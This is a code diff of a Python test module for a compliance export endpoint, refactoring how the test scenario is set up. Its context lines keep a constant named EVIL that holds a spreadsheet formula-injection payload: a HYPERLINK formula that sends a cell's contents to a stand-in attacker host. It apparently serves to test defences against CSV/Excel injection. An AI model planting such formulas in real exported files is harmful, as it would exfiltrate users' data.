@@ -14,15 +14,13 @@ from sqlalchemy import Engine
 
 from app.models import Archive
 from tests.factories import store
-from tests.scenario import PLAN, YEAR, build_scenario
+from tests.scenario import PLAN, YEAR, scenario_database
 
 URL = "/api/v1/compliance"
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
-@pytest.fixture(autouse=True)
-def scenario(client: TestClient) -> None:
-    build_scenario(client)
+pytestmark = pytest.mark.built_by.with_args(scenario_database)  # every test reads the scenario (tests/scenario.py)
 
 
 def workbook(client: TestClient, lang: str = "zh", **params: object) -> Workbook:
